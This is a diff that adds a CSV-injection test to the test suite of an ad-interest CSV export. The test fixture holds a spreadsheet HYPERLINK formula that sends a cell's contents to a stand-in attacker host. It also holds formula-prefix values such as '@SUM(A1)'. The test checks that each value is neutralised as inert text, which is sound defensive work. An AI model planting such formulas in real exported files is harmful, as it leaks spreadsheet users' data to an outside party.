@@ -41,6 +41,20 @@ describe('interest CSV export', () => {
     ]);
   });
 
+  it('writes formula-like names, categories and paths as inert text (CSV injection)', () => {
+    const csv = interestsToCsv([
+      interest({
+        name: '=HYPERLINK("https://attacker.example/?d="&A3;"Ver")',
+        category: '@SUM(A1)',
+        path: ['-1+1'],
+      }),
+    ]);
+    const [, row] = csv.slice(1).split('\r\n');
+    expect(row).toBe(
+      `"'=HYPERLINK(""https://attacker.example/?d=""&A3;""Ver"")";6003107902433;41000000;48216000;"'@SUM(A1)";"'-1+1";Não;pt_BR`,
+    );
+  });
+
   it('copies names the way Ads Manager takes them and names the file', () => {
     expect(namesForAdsManager([{ name: 'Yoga' }, { name: 'Pilates' }])).toBe('Yoga, Pilates');
     expect(csvFileName('Alimentação Saudável!', new Date('2026-03-04T10:00:00Z'))).toBe(
